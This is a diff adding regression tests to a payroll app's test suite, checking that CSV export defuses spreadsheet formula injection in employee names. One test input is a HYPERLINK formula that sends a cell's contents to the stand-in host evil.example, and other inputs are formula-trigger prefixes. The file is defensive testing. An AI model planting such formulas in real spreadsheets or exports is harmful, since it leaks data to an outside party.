@@ -11,6 +11,7 @@ from staffing.ledger import book_minutes, correct_entry
 from staffing.models import Course, CourseOutcome, CourseStatus, HoursKind
 from staffing.reports import payroll_csv, payroll_lines, site_hours, sum_entries, person_entries, year_statistics
 from workshop.extensions import db
+from workshop.spreadsheet import neutralise
 
 DAY = date(2026, 3, 2)
 
@@ -70,6 +71,21 @@ def test_payroll_csv_uses_danish_decimals_and_ends_with_totals(make_site, make_p
     assert rows[1] == [str(amina.id), "Amina A.", "1,67", "135,50", "225,83"]
     assert rows[2] == [str(hodan.id), "Hodan B.", "1,50", "135,00", "202,50"]
     assert rows[3] == ["", "I alt", "3,17", "", "428,33"]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?d="&C2,"Dilan A.")', "+1+2", "-3+4", "@SUM(A1)",
+                                  "\tTab", "\rReturn"])
+def test_payroll_csv_never_carries_a_formula(make_site, make_person, name):
+    """Issue 17, finding 8: a name a spreadsheet would run as a formula is written as plain text."""
+    site = make_site()
+    book_minutes(make_person(site=site, name=name, employment_wage_ore=13_500), DAY, 60, HoursKind.PAID)
+    rows = list(csv.reader(io.StringIO(payroll_csv(site, date(2026, 3, 1), date(2026, 3, 31))), delimiter=";"))
+    assert rows[1][1] == "'" + name
+
+
+def test_csv_cells_keep_plain_numbers_and_neutralise_formulas():
+    assert [neutralise(cell) for cell in ["-12,50", "-3", 7, "Amina", "=1+1", "-1+1", ""]] == [
+        "-12,50", "-3", 7, "Amina", "'=1+1", "'-1+1", ""]
 
 
 def _course(site, person, referred, status, outcome=None, actual_end=None):
